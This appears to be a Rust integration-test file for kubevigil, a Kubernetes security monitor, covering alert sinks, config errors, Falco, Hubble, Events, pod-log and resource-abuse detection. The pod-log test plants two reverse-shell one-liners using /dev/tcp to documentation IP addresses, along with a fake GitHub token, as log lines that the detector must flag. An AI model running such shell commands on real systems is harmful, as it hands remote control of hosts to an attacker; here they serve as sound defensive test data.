fn notified(rx: &mpsc::Receiver<(String, Vec<u8>)>, quiet: Duration) -> Vec<(String, String)> {
    let mut out = Vec::new();
    while let Ok((_, body)) = rx.recv_timeout(quiet) {
        let v: Value = serde_json::from_slice(&body).unwrap();
        for n in v["notifications"].as_array().into_iter().flatten() {
            let label = |k: &str| n["labels"][k].as_str().unwrap_or("").to_string();
            out.push((label("alertname"), label("severity")));
        }
    }
    out.sort();
    out
}

/// `monitor.sinks` of --config: each sink gets what its minimum severity and rule filter let
/// through; sinks of the command line keep everything (--min-severity aside).
#[test]
fn configured_sinks_have_their_own_minimum_severity_and_rules() {
    let dir = tempfile::tempdir().unwrap();
    let secret = dir.path().join("secret");
    std::fs::write(&secret, "s3cret\n").unwrap();
    let (low, low_rx) = receiver();
    let (medium, medium_rx) = receiver();
    let (cron, cron_rx) = receiver();
    let (cli, cli_rx) = receiver();
    let config = dir.path().join("kubevigil.yaml");
    let secret = secret.display();
    std::fs::write(
        &config,
        format!(
            "monitor:
  sinks:
    - webhook: http://{low}/hook
      secretFile: {secret}
      minSeverity: low
    - webhook: http://{medium}/hook
      secretFile: {secret}
      minSeverity: medium
    - webhook: http://{cron}/hook
      secretFile: {secret}
      rules: [k8s-cronjob-changed]
"
        ),
    )
    .unwrap();
    let cli_url = format!("http://{cli}/hook");
    let mut m = start(
        &dir.path().join("state"),
        &[
            "--config",
            config.to_str().unwrap(),
            "--webhook",
            &cli_url,
            "--webhook-secret-file",
            &secret.to_string(),
            "--min-severity",
            "medium",
        ],
    );
    let (code, _) = http(
        &m.audit,
        "POST",
        "/audit",
        &event_list(&[cronjob_event("c-1"), exec_event("e-1", "web-0")]),
    );
    assert_eq!(code, 200);
    // The cronjob is a low detection; the exec raises two medium ones.
    let alert = |name: &str, severity: &str| (name.to_string(), severity.to_string());
    let cronjob = alert("k8s-cronjob-changed", "low");
    let exec = [
        alert("k8s-pod-exec-shell", "medium"),
        alert("k8s_pod_exec", "medium"),
    ];
    let quiet = Duration::from_secs(5);
    let all = notified(&low_rx, quiet);
    assert_eq!(all, [&[cronjob.clone()][..], &exec].concat(), "{all:?}");
    assert_eq!(notified(&medium_rx, quiet), exec);
    assert_eq!(notified(&cron_rx, quiet), [cronjob]);
    assert_eq!(notified(&cli_rx, quiet), exec);
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

/// A mistake in `monitor.sinks` stops the monitor before it starts, saying where.
#[test]
fn a_bad_sink_configuration_is_refused_with_its_place() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("kubevigil.yaml");
    for (text, expected) in [
        (
            "monitor:\n  sinks:\n    - alertmanager: http://am:9093\n      minSeverty: high\n",
            "kubevigil.yaml:4:7: monitor.sinks[0].minSeverty: unknown key \"minSeverty\"; did you mean `minSeverity`?",
        ),
        (
            "monitor:\n  sinks:\n    - alertmanager: http://am:9093\n      slack: https://hooks.slack.com/services/T0/B0/tok3n\n",
            "kubevigil.yaml:4:7: monitor.sinks[0].slack: \"alertmanager\" and \"slack\" in one entry",
        ),
        (
            "monitor:\n  sinks:\n    - alertmanager: http://am:9093\n      minSeverity: urgent\n",
            "kubevigil.yaml:4:7: monitor.sinks[0].minSeverity: unknown severity \"urgent\"",
        ),
        (
            "monitor:\n  sinks:\n    - slack: https://hooks.slack.com/services/T0/B0/tok3n\n      rules: [k8s-pod-exek]\n",
            "monitor.sinks[0].rules[0]: unknown check or rule id \"k8s-pod-exek\"; did you mean `k8s-pod-exec`?",
        ),
    ] {
        std::fs::write(&config, text).unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_kubevigil"))
            .args(["monitor", "--no-cluster", "--listen", "127.0.0.1:0"])
            .arg("--config")
            .arg(&config)
            .arg("--state-dir")
            .arg(dir.path().join("state"))
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(err.contains(expected), "{text}: {err}");
        // The Slack URL's token is never shown.
        assert!(!err.contains("tok3n"), "{err}");
    }
}

/// Open findings are sent again to Alertmanager: past the `endsAt` of its first delivery, a
/// finding still open is still firing there; a webhook is told each finding once.
#[test]
fn open_findings_stay_firing_in_alertmanager_and_nowhere_else_repeated() {
    use kubevigil_sinks::testing::{binary_or_skip, free_port, get, start as start_am};
    let Some(binary) = binary_or_skip() else {
        return;
    };
    let api = kubevigil_testapi::TestApi::start().unwrap();
    let loaded = kubevigil_model::load_paths(
        &[std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/insecure")],
        &kubevigil_model::LoadOptions::default(),
    );
    for o in loaded.inventory.objects {
        api.create(o.value).unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
    let am_dir = dir.path().join("am");
    std::fs::create_dir(&am_dir).unwrap();
    let am = start_am(&binary, &am_dir, free_port());
    let am_url = format!("http://127.0.0.1:{}", am.port);
    let (addr, requests) = receiver();
    let secret = dir.path().join("secret");
    std::fs::write(&secret, "s").unwrap();
    let hook = format!("http://{addr}/hook");
    // Refreshes every second: a firing finding's endsAt is 24 s after each delivery.
    let mut m = start(
        &dir.path().join("state"),
        &[
            "--kubeconfig",
            kubeconfig.to_str().unwrap(),
            "--resync-interval",
            "1",
            "--alertmanager",
            &am_url,
            "--alertmanager-refresh",
            "1",
            "--webhook",
            &hook,
            "--webhook-secret-file",
            secret.to_str().unwrap(),
        ],
    );
    let findings = |body: &str| -> Vec<Value> {
        let alerts: Value = serde_json::from_str(body).unwrap_or(Value::Null);
        alerts
            .as_array()
            .into_iter()
            .flatten()
            .filter(|a| a["labels"]["fingerprint"].is_string())
            .cloned()
            .collect()
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let first = loop {
        let (_, body) = get(am.port, "/api/v2/alerts").unwrap();
        if let Some(a) = findings(&body).into_iter().next() {
            break a;
        }
        assert!(std::time::Instant::now() < deadline, "no finding: {body}");
        std::thread::sleep(Duration::from_millis(200));
    };
    let fingerprint = first["labels"]["fingerprint"].as_str().unwrap().to_string();
    let first_end = first["endsAt"].as_str().unwrap().to_string();
    let ends =
        |a: &Value| kubevigil_model::time::parse_rfc3339_ms(a["endsAt"].as_str().unwrap()).unwrap();
    let first_end_ms = ends(&first);
    // Past the first endsAt (and a margin for the clock of the check).
    while kubevigil_store::now_ms() < first_end_ms + 2_000 {
        std::thread::sleep(Duration::from_millis(500));
    }
    let (_, body) = get(am.port, "/api/v2/alerts").unwrap();
    let now = findings(&body);
    let again = now
        .iter()
        .find(|a| a["labels"]["fingerprint"] == fingerprint.as_str())
        .unwrap_or_else(|| panic!("{fingerprint} resolved at {first_end}: {body}"));
    assert_eq!(again["status"]["state"], "active", "{again}");
    assert!(ends(again) > first_end_ms, "{again}");
    // The webhook got each finding once (new), no refresh.
    let ids = notification_ids(&requests, Duration::from_secs(1));
    assert!(!ids.is_empty());
    assert!(ids.iter().all(|i| i.contains("/new/")), "{ids:?}");
    let unique: std::collections::BTreeSet<&String> = ids.iter().collect();
    assert_eq!(unique.len(), ids.len(), "{ids:?}");
    m.child.kill().unwrap();
    m.child.wait().unwrap();
}

/// `--policy-reports policyreport`: the open findings land in the cluster as a PolicyReport per
/// namespace, written by server-side apply with the field manager `kubevigil`, and a report an
/// earlier run left in a namespace without findings is deleted.
#[test]
fn open_findings_are_kept_in_the_cluster_as_policy_reports() {
    let mut resources = kubevigil_testapi::default_resources();
    for (plural, kind, namespaced) in [
        ("policyreports", "PolicyReport", true),
        ("clusterpolicyreports", "ClusterPolicyReport", false),
    ] {
        resources.push(kubevigil_testapi::Resource::new(
            "wgpolicyk8s.io",
            "v1alpha2",
            plural,
            kind,
            namespaced,
        ));
    }
    let api = kubevigil_testapi::TestApi::builder()
        .resources(resources)
        .start()
        .unwrap();
    let loaded = kubevigil_model::load_paths(
        &[std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/insecure")],
        &kubevigil_model::LoadOptions::default(),
    );
    for o in loaded.inventory.objects {
        api.create(o.value).unwrap();
    }
    api.create(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "old"}}))
        .unwrap();
    let stale = json!({"apiVersion": "wgpolicyk8s.io/v1alpha2", "kind": "PolicyReport",
        "metadata": {"name": "kubevigil", "namespace": "old",
            "labels": {"app.kubernetes.io/managed-by": "kubevigil"}},
        "summary": {"fail": 1}, "results": []});
    api.create(stale).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
    let state = dir.path().join("state");
    let _m = start(
        &state,
        &[
            "--kubeconfig",
            kubeconfig.to_str().unwrap(),
            "--policy-reports",
            "policyreport",
            "--policy-reports-interval",
            "1",
        ],
    );
    let report = |ns: &str| {
        api.get(
            "wgpolicyk8s.io/v1alpha2",
            "PolicyReport",
            Some(ns),
            "kubevigil",
        )
    };
    let deadline = Instant::now() + Duration::from_secs(20);
    let shop = loop {
        if let Some(r) = report("shop")
            && report("old").is_none()
        {
            break r;
        }
        assert!(
            Instant::now() < deadline,
            "no report in shop, or the stale one still there: {:?}",
            api.requests()
                .iter()
                .filter(|r| !r.starts_with("GET"))
                .collect::<Vec<_>>()
        );
        std::thread::sleep(Duration::from_millis(200));
    };
    // As many failures as the history holds open findings in shop.
    let open_in_shop = history(&state).iter().filter(|t| t.0 == "new").count();
    let fail = shop["summary"]["fail"].as_u64().unwrap() as usize;
    assert!(
        fail > 0 && fail <= open_in_shop,
        "{fail} of {open_in_shop}: {shop}"
    );
    let results = shop["results"].as_array().unwrap();
    assert_eq!(results.len(), fail);
    assert!(
        results
            .iter()
            .all(|r| r["result"] == "fail" && r["source"] == "kubevigil")
    );
    assert!(
        api.requests().iter().any(|r| r.starts_with(
            "PATCH /apis/wgpolicyk8s.io/v1alpha2/namespaces/shop/policyreports/kubevigil?"
        ) && r.contains("fieldManager=kubevigil")
            && r.contains("force=true")),
        "{:?}",
        api.requests()
    );
}

/// The monitor watching `api` (its kubeconfig in a fresh directory, which also holds the state
/// in `state/`) with `extra` options.
fn start_watching(
    api: &kubevigil_testapi::TestApi,
    extra: &[&str],
) -> (tempfile::TempDir, Running) {
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
    let mut args = vec!["--kubeconfig", kubeconfig.to_str().unwrap()];
    args.extend_from_slice(extra);
    let m = start(&dir.path().join("state"), &args);
    (dir, m)
}

/// Waits until the monitor published its first read of the cluster: the dashboard's
/// NetworkPolicy page names `workload`.
fn wait_for_inventory(m: &Running, workload: &str) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while !http(&m.metrics, "GET", "/network", b"")
        .1
        .contains(workload)
    {
        assert!(Instant::now() < deadline, "the cluster was never read");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Falco's `http_output` posts each alert to `/falco`: the alerts of the bundled example become
/// alerts like audit ones (stdout, history, metrics), the pod's workload, service account and
/// namespace labels added from the cluster the monitor reads; a body without any alert is 400.
/// An exec into the pod through the API, then Falco's shell in it, is one incident.
#[test]
fn falco_alerts_are_enriched_from_the_cluster() {
    let api = kubevigil_testapi::TestApi::start().unwrap();
    let owner = |kind: &str, name: &str, api_version: &str| json!([{"apiVersion": api_version, "kind": kind, "name": name, "uid": format!("uid-{name}"), "controller": true}]);
    api.create_all([
        json!({"apiVersion": "v1", "kind": "Namespace",
               "metadata": {"name": "shop", "labels": {"team": "storefront"}}}),
        json!({"apiVersion": "apps/v1", "kind": "Deployment",
               "metadata": {"name": "web", "namespace": "shop", "uid": "uid-web"},
               "spec": {"selector": {"matchLabels": {"app": "web"}},
                        "template": {"metadata": {"labels": {"app": "web"}},
                                     "spec": {"serviceAccountName": "web", "containers": [{"name": "web", "image": "registry.example.com/shop/web:2.4.1"}]}}}}),
        json!({"apiVersion": "apps/v1", "kind": "ReplicaSet",
               "metadata": {"name": "web-7d9f8b6c5d", "namespace": "shop", "uid": "uid-web-7d9f8b6c5d",
                            "ownerReferences": owner("Deployment", "web", "apps/v1")},
               "spec": {"selector": {"matchLabels": {"app": "web"}},
                        "template": {"metadata": {"labels": {"app": "web"}},
                                     "spec": {"serviceAccountName": "web", "containers": [{"name": "web", "image": "registry.example.com/shop/web:2.4.1"}]}}}}),
        json!({"apiVersion": "v1", "kind": "Pod",
               "metadata": {"name": "web-7d9f8b6c5d-x2x4q", "namespace": "shop", "labels": {"app": "web"},
                            "ownerReferences": owner("ReplicaSet", "web-7d9f8b6c5d", "apps/v1")},
               "spec": {"serviceAccountName": "web", "containers": [{"name": "web", "image": "registry.example.com/shop/web:2.4.1"}]}}),
    ])
    .unwrap();
    let (dir, m) = start_watching(&api, &["--resync-interval", "1"]);
    let state = dir.path().join("state");
    wait_for_inventory(&m, "shop/web");
    let example = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../examples/falco/falco.json"
    ))
    .unwrap();
    let exec = event_list(&[exec_event("exec-1", "web-7d9f8b6c5d-x2x4q")]);
    assert_eq!(http(&m.audit, "POST", "/audit", &exec).0, 200);
    let first = m.alerts.recv_timeout(Duration::from_secs(10)).unwrap();
    assert_eq!(first["name"], "k8s_pod_exec");
    while m.alerts.recv_timeout(Duration::from_secs(1)).is_ok() {}
    for line in example.lines() {
        let (status, body) = http(&m.audit, "POST", "/falco", line.as_bytes());
        assert_eq!(status, 200, "{body}");
    }
    let (status, body) = http(&m.audit, "POST", "/falco", b"{\"rule\": \"x\"}");
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("not a Falco alert: no priority"), "{body}");
    let mut alerts = Vec::new();
    let mut wait = Duration::from_secs(10);
    while let Ok(a) = m.alerts.recv_timeout(wait) {
        wait = Duration::from_secs(2);
        alerts.push(a);
    }
    let incident = alerts
        .iter()
        .position(|a| a["name"] == "incident_exec_then_falco")
        .expect("the incident");
    let i = alerts.remove(incident);
    assert_eq!(i["severity"], "high");
    assert_eq!(i["actor"]["username"], "mallory@example.com");
    assert_eq!(i["action"]["subresource"], "exec");
    assert_eq!(i["action"]["name"], "web-7d9f8b6c5d-x2x4q");
    assert_eq!(i["facts"]["falco"]["rule"], "Terminal shell in container");
    assert_eq!(i["auditIDs"], json!(["exec-1"]));
    assert_eq!(i["events"].as_array().unwrap().len(), 2);
    let names: Vec<&str> = alerts.iter().map(|a| a["name"].as_str().unwrap()).collect();
    // Each first occurrence at once; the repeated shell folds into its alert in the history.
    assert_eq!(
        names,
        [
            "falco_priority_notice",
            "falco_priority_warning",
            "falco_priority_notice",
            "falco_intrusion_chain",
            "falco_priority_critical",
            "falco_priority_notice",
            "falco_priority_warning"
        ],
        "{alerts:#?}"
    );
    let drop = &alerts[4]["facts"]["falco"];
    assert_eq!(
        drop["workload"],
        json!({"kind": "Deployment", "name": "web"})
    );
    assert_eq!(drop["serviceAccount"], "web");
    // A pod the cluster does not hold (payments/api) is not enriched.
    assert!(alerts[5]["facts"]["falco"].get("workload").is_none());
    let secret = ["Xq9vLm27Rt", "Kp4Wz"].concat();
    assert!(!alerts.iter().any(|a| a.to_string().contains(&secret)));
    let (_, exposition) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        exposition.contains("kubevigil_falco_alerts_received_total 7"),
        "{exposition}"
    );
    assert!(
        exposition.contains("kubevigil_falco_alerts_rejected_total{reason=\"none\"} 1"),
        "{exposition}"
    );
    assert!(exposition.contains("kubevigil_falco_alerts_processed_total 7"));
    promtool_check(exposition.split("\r\n\r\n").nth(1).unwrap());
    let out = Command::new(env!("CARGO_BIN_EXE_kubevigil"))
        .args(["history", "-o", "json", "--since", "3650d", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    let h: Value = serde_json::from_slice(&out.stdout).unwrap();
    let stored = h["alerts"].as_array().unwrap();
    assert!(
        stored
            .iter()
            .any(|a| a["title"] == "Several different Falco rules on one pod"
                && a["subject"]
                    .as_str()
                    .unwrap()
                    .contains("web-7d9f8b6c5d-x2x4q")),
        "{h}"
    );
}

/// `POST /hubble`: flows judged against the NetworkPolicies of the cluster the monitor watches
/// (the hardened example served by the test API server): the forwarded flow its policies deny,
/// the dropped flow they allow, the port scan.
#[test]
fn hubble_flows_are_judged_against_the_watched_policies() {
    let api = kubevigil_testapi::TestApi::start().unwrap();
    let loaded = kubevigil_model::load_paths(
        &[std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/hardened")],
        &kubevigil_model::LoadOptions::default(),
    );
    api.create_all(loaded.inventory.objects.into_iter().map(|o| o.value))
        .unwrap();
    let (_dir, m) = start_watching(&api, &[]);
    wait_for_inventory(&m, "shop/web");
    let flows = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../examples/hubble/flows.json"
    ))
    .unwrap();
    let (status, body) = http(&m.audit, "POST", "/hubble", &flows);
    assert_eq!(status, 200, "{body}");
    assert_eq!(http(&m.audit, "POST", "/hubble", b"[]").0, 400);
    let mut names = Vec::new();
    let mut gap = Value::Null;
    let mut wait = Duration::from_secs(10);
    while let Ok(a) = m.alerts.recv_timeout(wait) {
        wait = Duration::from_secs(2);
        if a["name"] == "hubble_forwarded_policies_deny" {
            gap = a.clone();
        }
        names.push(a["name"].as_str().unwrap().to_string());
    }
    names.sort();
    names.dedup();
    assert_eq!(
        names,
        [
            "hubble_dropped_policies_allow",
            "hubble_forwarded_policies_deny",
            "hubble_policy_drop",
            "hubble_port_scan"
        ]
    );
    assert_eq!(gap["facts"]["flow"]["model"]["verdict"], "denied");
    assert_eq!(
        gap["facts"]["flow"]["model"]["ingressIsolatedBy"],
        json!(["shop/db", "shop/default-deny"])
    );
    let (_, exposition) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        exposition.contains("kubevigil_hubble_flows_received_total 17"),
        "{exposition}"
    );
    assert!(exposition.contains("kubevigil_hubble_flows_rejected_total{reason=\"none\"} 1"));
    promtool_check(exposition.split("\r\n\r\n").nth(1).unwrap());
}

/// Kubernetes Events are watched (events.k8s.io/v1 where served) and matched by the Events pack:
/// those there at the start, and one recorded while the monitor runs.
#[test]
fn kubernetes_events_are_watched_and_matched() {
    let api = kubevigil_testapi::TestApi::start().unwrap();
    let event =
        |name: &str, reason: &str, note: &str, regarding: Value, node: &str, second: u32| {
            json!({"apiVersion": "events.k8s.io/v1", "kind": "Event",
            "metadata": {"name": name, "namespace": "payments"},
            "eventTime": format!("2026-11-30T10:{:02}:{:02}.000000Z", second / 60, second % 60),
            "reason": reason, "note": note, "type": "Warning", "regarding": regarding,
            "reportingController": "kubelet", "reportingInstance": node, "action": reason})
        };
    let mut events = vec![event(
        "api-7d9f.1",
        "FailedCreate",
        r#"Error creating: pods "api-7d9f-x" is forbidden: violates PodSecurity "restricted:latest": allowPrivilegeEscalation != false"#,
        json!({"kind": "ReplicaSet", "namespace": "payments", "name": "api-7d9f", "apiVersion": "apps/v1"}),
        "",
        0,
    )];
    for i in 0..10 {
        events.push(event(
            &format!("etl-{i}.1"),
            "Evicted",
            "The node was low on resource: memory.",
            json!({"kind": "Pod", "namespace": "payments", "name": format!("etl-{i}"), "apiVersion": "v1"}),
            "node-2",
            30 + i * 20,
        ));
    }
    api.create_all(events).unwrap();
    let (_dir, m) = start_watching(&api, &[]);
    let mut names = Vec::new();
    let mut wait = Duration::from_secs(15);
    while let Ok(a) = m.alerts.recv_timeout(wait) {
        wait = Duration::from_secs(2);
        names.push(a["name"].as_str().unwrap().to_string());
    }
    assert_eq!(
        names,
        [
            "k8s_event_pod_security_rejected",
            "k8s_event_eviction_storm"
        ]
    );
    // Recorded while the monitor runs.
    api.create(event(
        "web-0.1",
        "FailedMount",
        r#"MountVolume.SetUp failed for volume "db" : secret "db-credentials" not found"#,
        json!({"kind": "Pod", "namespace": "payments", "name": "web-0", "apiVersion": "v1"}),
        "node-1",
        600,
    ))
    .unwrap();
    let live = m.alerts.recv_timeout(Duration::from_secs(10)).unwrap();
    assert_eq!(live["name"], "k8s_event_secret_mount_failed");
    assert_eq!(live["facts"]["event"]["node"], "node-1");
    let (_, exposition) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        exposition.contains("kubevigil_kubernetes_events_received_total 12"),
        "{exposition}"
    );
    promtool_check(exposition.split("\r\n\r\n").nth(1).unwrap());
}

/// `monitor.podLogs` (or `--pod-logs-namespace`): the running pods' containers are followed; a line printing a token
/// alerts (named, never shown); a stream that ends (a restart) is followed again from its last
/// line without repeating any.
#[test]
fn pod_logs_are_followed_across_a_cut() {
    let api = kubevigil_testapi::TestApi::start().unwrap();
    api.create_all([
        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop"}}),
        json!({"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "web-0", "namespace": "shop", "labels": {"app": "web"}},
            "spec": {"nodeName": "node-1", "containers": [{"name": "app", "image": "registry.example.com/web:1"}]},
            "status": {"phase": "Running"}}),
        json!({"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "batch-0", "namespace": "jobs"},
            "spec": {"containers": [{"name": "job", "image": "registry.example.com/job:1"}]},
            "status": {"phase": "Running"}}),
    ])
    .unwrap();
    let token = ["ghp_", "Zx9vLm27RtKp4WzQ8nB3cD5eF7gH1jK2lM4n"].concat();
    api.append_log(
        "shop",
        "web-0",
        "app",
        "2026-11-30T10:00:00.100000000Z",
        "listening on :8080",
    );
    api.append_log(
        "shop",
        "web-0",
        "app",
        "2026-11-30T10:00:01.200000000Z",
        &format!("deploying with GITHUB_TOKEN={token}"),
    );
    api.append_log(
        "jobs",
        "batch-0",
        "job",
        "2026-11-30T10:00:01.300000000Z",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    );
    // The selection from the configuration (`--pod-logs-namespace shop` says the same).
    let conf = tempfile::tempdir().unwrap();
    let config = conf.path().join("kubevigil.yaml");
    std::fs::write(
        &config,
        "monitor:\n  podLogs:\n    namespaces: [shop]\n    maxStreams: 5\n",
    )
    .unwrap();
    let (_dir, m) = start_watching(&api, &["--config", config.to_str().unwrap()]);
    let first = m.alerts.recv_timeout(Duration::from_secs(20)).unwrap();
    assert_eq!(first["name"], "pod_log_credential", "{first}");
    assert_eq!(first["action"]["namespace"], "shop");
    assert_eq!(first["facts"]["log"]["container"], "app");
    assert_eq!(first["facts"]["log"]["node"], "node-1");
    assert_eq!(
        first["facts"]["log"]["workload"],
        json!({"kind": "Pod", "name": "web-0"})
    );
    assert!(!first.to_string().contains(&token));
    // The stream ends; the line after the cut is read once the log is followed again.
    api.cut_log_streams();
    api.append_log(
        "shop",
        "web-0",
        "app",
        "2026-11-30T10:00:02.000000000Z",
        "sh -i >& /dev/tcp/198.51.100.23/9001 0>&1",
    );
    let shell = m.alerts.recv_timeout(Duration::from_secs(20)).unwrap();
    assert_eq!(shell["name"], "pod_log_reverse_shell_or_miner", "{shell}");
    // Nothing from the namespace not followed, nothing repeated.
    assert!(m.alerts.recv_timeout(Duration::from_secs(3)).is_err());
    let (_, exposition) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        exposition.contains("kubevigil_pod_log_lines_received_total 3"),
        "{exposition}"
    );
    promtool_check(exposition.split("\r\n\r\n").nth(1).unwrap());
}

/// The metrics API polled (`--metrics-interval`): a pod at 7.6 times its CPU request is a hog
/// (with `--hog-window 0`), a quota at 95% is near its limit, an autoscaler at its maximum with
/// CPU at twice its target is stuck; PodMetrics served by the test API server as metrics-server
/// serves them.
#[test]
fn resource_abuse_is_judged_from_the_metrics_api() {
    let api = kubevigil_testapi::TestApi::start().unwrap();
    api.create_all([
        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop"}}),
        json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": "node-1"},
            "status": {"allocatable": {"cpu": "4", "memory": "16Gi"}}}),
        json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "etl-0", "namespace": "shop"},
            "spec": {"nodeName": "node-1", "containers": [{"name": "app", "image": "registry.example.com/etl:1",
                "resources": {"requests": {"cpu": "250m", "memory": "512Mi"}}}]},
            "status": {"phase": "Running"}}),
        json!({"apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "shop-quota", "namespace": "shop"},
            "spec": {"hard": {"pods": "20"}}, "status": {"hard": {"pods": "20"}, "used": {"pods": "19"}}}),
        json!({"apiVersion": "metrics.k8s.io/v1beta1", "kind": "PodMetrics",
            "metadata": {"name": "etl-0", "namespace": "shop"},
            "timestamp": "2026-11-30T10:00:00Z", "window": "15s",
            "containers": [{"name": "app", "usage": {"cpu": "1900m", "memory": "300Mi"}}]}),
        json!({"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler",
            "metadata": {"name": "web", "namespace": "shop"},
            "spec": {"scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "web"},
                "minReplicas": 2, "maxReplicas": 10,
                "metrics": [{"type": "Resource", "resource": {"name": "cpu", "target": {"type": "Utilization", "averageUtilization": 70}}}]},
            "status": {"currentReplicas": 10, "desiredReplicas": 10,
                "currentMetrics": [{"type": "Resource", "resource": {"name": "cpu", "current": {"averageUtilization": 140}}}]}}),
    ])
    .unwrap();
    let (_dir, m) = start_watching(&api, &["--metrics-interval", "1", "--hog-window", "0"]);
    let mut got = std::collections::BTreeMap::new();
    let deadline = Instant::now() + Duration::from_secs(20);
    while got.len() < 3 && Instant::now() < deadline {
        if let Ok(a) = m.alerts.recv_timeout(Duration::from_secs(1))
            && a["name"].as_str().unwrap().starts_with("resource_")
        {
            got.insert(a["name"].as_str().unwrap().to_string(), a);
        }
    }
    let hog = &got["resource_hog"];
    assert_eq!(hog["action"]["name"], "etl-0");
    assert_eq!(hog["facts"]["resources"]["kind"], "cpu_hog");
    assert_eq!(hog["facts"]["resources"]["ratio"], 7.6);
    assert_eq!(
        got["resource_quota_near_limit"]["facts"]["resources"]["used"],
        "19"
    );
    let hpa = &got["resource_hpa_at_max"];
    assert_eq!(hpa["action"]["resource"], "horizontalpodautoscalers");
    assert_eq!(hpa["facts"]["resources"]["current"], 140);
    let (_, exposition) = http(&m.metrics, "GET", "/metrics", b"");
    assert!(
        exposition.contains("kubevigil_resource_events_received_total"),
        "{exposition}"
    );
    promtool_check(exposition.split("\r\n\r\n").nth(1).unwrap());
}
